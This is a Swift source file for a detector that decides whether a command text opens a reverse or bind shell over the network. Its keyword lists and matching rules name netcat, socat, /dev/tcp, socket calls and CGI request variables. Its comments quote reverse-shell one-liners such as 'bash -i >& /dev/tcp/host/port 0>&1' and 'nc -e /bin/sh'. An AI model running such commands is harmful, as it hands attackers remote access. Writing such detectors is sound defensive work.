internal import JSONView

/// Tells whether a command gives a shell to somebody over the network.
///
/// A shell's input or output must meet a connection: probing a port with `/dev/tcp` or forwarding one with `socat` is
/// no match.
enum ReverseShell {
    static func judge(_ text: JSONText) -> Bool {
        guard text.count > 8 else { return false }
        let text = text.prefix(ShellScript.sizeLimit)
        return throughDevice(text) || inOneLanguage(text) || throughTool(text) || runsRequests(text)
            || (text.contains(anyOf: tools) && LanguageLiterals.anyCommand(in: text, throughTool))
    }

    private static let devices: [StaticString] = ["/dev/tcp/", "/dev/udp/", "/inet/tcp/", "ztcp"]
    private static let tools: [StaticString] = [
        "nc", "netcat", "socat", "telnet", "openssl", "-display", "ttyd", "gotty", "wetty", "exec:", "EXEC:", "system:",
        "SYSTEM:",
    ]
    /// What a web server hands to the programs that it starts.
    private static let requests: [StaticString] = ["QUERY_STRING", "HTTP_USER_AGENT"]
    private static let sockets: [StaticString] = [
        "socket.socket(", "create_connection(", "open_connection(", "import socket", "use Socket", "IO::Socket",
        "TCPSocket", "fsockopen(",
        "net.Socket(",
        "net.connect(", "socket.tcp(", "java.net.Socket", "net.Dial(", "require('socket')", "require(\"socket\")",
        "require(\"net\")", "require('net')", "stream_socket_client(", "require(\\\"socket\\\")",
        "require(\\\"net\\\")",
    ]

    /// Literals of which one stands in every text that gives a shell away.
    static let signs = devices + tools + sockets + requests

    /// `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | while read l; do $l …`.
    private static func throughDevice(_ text: JSONText) -> Bool {
        guard text.contains(anyOf: devices) else { return false }
        if text.contains("0>&1") || text.contains("0<&1") || text.contains("0>& 1") || text.contains("<&1") {
            return true
        }
        if text.contains("sh -i") { return true }
        // zsh's own connection, whose descriptor a shell takes over.
        if text.contains("ztcp "), text.contains("&$REPLY") { return true }
        let opensBoth = text.contains("<>/dev/") || text.contains("<> /dev/")
        if opensBoth, text.contains("while read") || text.contains("sh <&") || text.contains("sh 0<&") { return true }
        return text.contains("|&getline") || text.contains("|& getline")
    }

    /// `eval "$QUERY_STRING"`: what a request says is run.
    private static func runsRequests(_ text: JSONText) -> Bool {
        guard text.contains(anyOf: requests) else { return false }
        let texts: [StaticString] = [
            "eval \"$QUERY", "eval $QUERY", "eval \"$HTTP_USER_AGENT", "eval $HTTP_USER_AGENT", "-c \"$QUERY_STRING",
            "-c $QUERY_STRING",
            "-c \"$HTTP_USER_AGENT", "eval \\\"$QUERY", "-c \\\"$QUERY", "eval \"${QUERY", "-c \"${QUERY",
        ]
        return text.contains(anyOf: texts) || text.contains("QUERY_STRING") && text.contains("| sh")
    }

    private static let connectors: Set<String> = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"]

    private static func throughTool(_ text: JSONText) -> Bool {
        guard text.contains(anyOf: tools) else { return false }
        let script = ShellScript(text)
        let commands = script.allCommands
        if commands.contains(where: runsProgram) { return true }
        // bash's own pipe to a program that runs beside it: `coproc nc …; bash <&${COPROC[0]} >&${COPROC[1]}`.
        if text.contains("coproc "), text.contains("COPROC["), commands.contains(where: isConnection) { return true }
        for pipeline in script.allPipelines {
            let connects = pipeline.commands.contains(where: isConnection)
            let shells = pipeline.commands.contains {
                Interpreters.isShell($0.program)
                    && (Interpreters.runsInput($0) || $0.operands.contains("-i") || !$0.inputs.isEmpty)
            }
            if connects, shells { return true }
        }
        return false
    }

    private static func isConnection(_ command: ShellScript.Command) -> Bool {
        if command.words.first == "coproc" {
            return command.words.dropFirst().prefix(2).contains {
                connectors.contains(ShellScript.Command.baseName($0))
            }
        }
        if connectors.contains(command.program) { return true }
        if command.program == "curl" { return command.operands.contains { $0.hasPrefix("telnet://") } }
        return command.program == "openssl" && command.operands.first == "s_client"
    }

    /// `nc -e /bin/sh …`, `ncat --sh-exec …`, `socat exec:sh tcp:…`.
    private static func runsProgram(_ command: ShellScript.Command) -> Bool {
        let operands = Array(command.operands)
        // The arguments of an image whose program it is have no name before them.
        if command.program == "socat" || operands.count < 8 && command.words.contains(where: isAddressOfProgram) {
            let lower = command.words.map { $0.lowercased() }
            let runs = lower.contains { ($0.hasPrefix("exec:") || $0.hasPrefix("system:")) && namesShell($0) }
            let connects = lower.contains { operand in
                ["tcp", "udp", "openssl", "ssl", "sctp", "vsock"].contains { operand.hasPrefix($0) }
            }
            return runs && connects
        }
        // A shell for everybody with a browser; one that asks who it is may be meant so.
        if ["ttyd", "gotty", "wetty"].contains(command.program) {
            return operands.contains(where: Interpreters.isShell)
                && !operands.contains { $0 == "-c" || $0.hasPrefix("--cred") || $0.hasPrefix("-c=") }
        }
        // A terminal whose screen is another machine's.
        if command.program == "xterm", let option = operands.firstIndex(of: "-display"), option + 1 < operands.count {
            return !operands[option + 1].hasPrefix(":")
        }
        // A shell for everybody who connects.
        if command.program == "telnetd" || command.program == "in.telnetd" {
            return operands.contains(where: namesShell)
        }
        guard connectors.contains(command.program), command.program != "telnet" else { return false }
        for (position, word) in operands.enumerated() {
            let next = position + 1 < operands.count ? operands[position + 1] : ""
            if word.hasPrefix("--exec=") || word.hasPrefix("--sh-exec="), namesShell(word) { return true }
            let takesProgram =
                word == "--exec" || word == "--sh-exec"
                || (word.hasPrefix("-") && !word.hasPrefix("--") && (word.hasSuffix("e") || word.hasSuffix("c")))
            if takesProgram, namesShell(next) { return true }
        }
        return false
    }

    /// `exec:/bin/sh`, as socat writes it.
    private static func isAddressOfProgram(_ word: String) -> Bool {
        let lower = word.prefix(8).lowercased()
        return lower.hasPrefix("exec:") || lower.hasPrefix("system:")
    }

    private static func namesShell(_ text: String) -> Bool {
        text.split { !($0.isLetter || $0.isNumber || $0 == "_" || $0 == "-") }.contains {
            Interpreters.isShell(String($0)) || $0 == "cmd" || $0 == "powershell"
        }
    }

    /// Sockets and shells in one text of Python, Perl, Ruby, PHP, Node, Lua or Java.
    private static func inOneLanguage(_ text: JSONText) -> Bool {
        guard text.contains(anyOf: sockets) else { return false }
        // What came in is run, and what that wrote is sent back.
        let receives = text.contains(":receive(") || text.contains(".gets") || text.contains("recv(")
        if receives, text.contains("popen(") || text.contains("check_output(") || text.contains("getoutput(") {
            return true
        }
        // Perl's streams put in the connection's place: what comes in is run line by line.
        if text.contains("fdopen("), text.contains("system") || text.contains("exec") { return true }
        if text.contains("subprocess_shell(") { return true }
        let shell =
            text.contains("/bin/sh") || text.contains("/bin/bash") || text.contains("/bin/ash")
            || text.contains("\"sh\"") || text.contains("'sh'") || text.contains("\"bash\"") || text.contains("'bash'")
            || text.contains("sh -i") || text.contains("sh <&") || text.contains("sh 0<&") || text.contains("sh\\\"")
            || text.contains("spawn(") && (text.contains("sh\")") || text.contains("sh')"))
        let runs =
            text.contains("dup2(") || text.contains("pty.spawn") || text.contains("subprocess") || text.contains("exec")
            || text.contains("spawn(") || text.contains("popen") || text.contains("system(") || text.contains("%x")
            || text.contains("proc_open(") || text.contains("`sh ") || text.contains("`/bin/sh ")
        return shell && runs
    }
}
